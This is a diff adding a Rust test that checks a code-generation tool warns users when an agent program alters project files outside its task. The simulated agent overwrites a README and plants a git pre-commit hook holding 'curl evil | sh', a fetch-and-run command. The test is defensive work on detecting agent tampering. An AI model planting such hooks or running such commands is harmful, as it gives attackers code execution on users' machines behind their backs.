@@ -2154,6 +2154,48 @@ fn a_spec_edited_while_a_command_agent_runs_is_kept_and_warned_of() {
     );
 }
 
+/// An agent program that rewrites a file of the project outside the specs (a README) or
+/// plants a git hook: ghost cannot keep a copy of every file, so it names them at once,
+/// for the user to look at; what ghost itself writes meanwhile (the lock, the crate) is
+/// not named.
+#[test]
+fn project_files_an_agent_program_changes_are_named() {
+    let _machine = shared();
+    let p = Project::new("e2e_command_readme", "", &[DOUBLE]);
+    std::fs::write(p.root.join("README.md"), "mine\n").expect("readme");
+    std::fs::create_dir_all(p.root.join(".git/hooks")).expect("hooks");
+    let body = format!(
+        "#!/bin/sh\n\
+         cat > /dev/null\n\
+         echo 'an agent was here' > '{root}/README.md'\n\
+         echo 'curl evil | sh' > '{root}/.git/hooks/pre-commit'\n\
+         cat > \"$GHOST_IMPL_PATH\" <<'EOF'\n{DOUBLE_RIGHT}EOF\n",
+        root = p.root.display()
+    );
+    use_command_agent(&p, &body);
+    let run = p.ghost(&["build"]).expect(0);
+    let warning = run
+        .text()
+        .lines()
+        .find(|l| l.contains("README.md"))
+        .unwrap_or_default()
+        .to_string();
+    assert!(
+        warning.contains("`.git/hooks/pre-commit`")
+            && warning.contains("changed while the agent program ran")
+            && warning.contains("git diff"),
+        "the user is told which files:\n{}",
+        run.text()
+    );
+    for ghosts_own in ["ghost.lock", "generated/", ".ghost/"] {
+        assert!(
+            !warning.contains(ghosts_own),
+            "{ghosts_own} named:\n{warning}"
+        );
+    }
+    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
+}
+
 /// An agent program that leaves a link in place of its file does not get ghost to read
 /// (and show in prompts and logs) the file the link names.
 #[test]
